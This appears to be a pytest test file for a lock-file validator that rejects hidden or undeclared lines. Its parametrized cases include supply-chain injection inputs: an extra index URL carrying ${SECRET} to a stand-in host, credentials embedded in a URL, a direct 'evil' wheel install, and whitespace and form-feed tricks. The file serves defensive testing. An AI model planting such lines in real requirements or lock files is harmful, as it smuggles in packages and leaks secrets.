from __future__ import annotations

import pytest

from studio.environments.lock_text import check_lock_lines

DECLARED = "--index-url https://packages.test/simple\nalpha\n"
LOCK = f"""\
--index-url https://packages.test/simple
alpha==1.0 ; python_version > '3' \\
    --hash=sha256:{"0" * 64} \\
    --hash=sha256:{"1" * 64}
    # via -r requirements.in
    # from https://packages.test/simple
"""


def test_that_a_lock_as_it_is_written_here_holds_nothing_hidden() -> None:
    check_lock_lines(LOCK, DECLARED)


@pytest.mark.parametrize(
    "line",
    [
        "-r https://elsewhere.test/more.txt",
        "-e .",
        "--extra-index-url https://elsewhere.test/${SECRET}/simple",
        "--index-url https://me:word@packages.test/simple",
        " evil @ https://elsewhere.test/evil-1.0-py3-none-any.whl",
        "    evil==1.0",
        f"beta==1.0 ; python_version > '3' --hash=sha256:{'2' * 64}",
        "# one line for us\x0c-r two for others",
    ],
)
def test_that_a_line_that_only_an_installer_would_see_is_refused(line: str) -> None:
    with pytest.raises(ValueError, match=r"lock|index"):
        check_lock_lines(f"{LOCK}{line}\n", DECLARED)
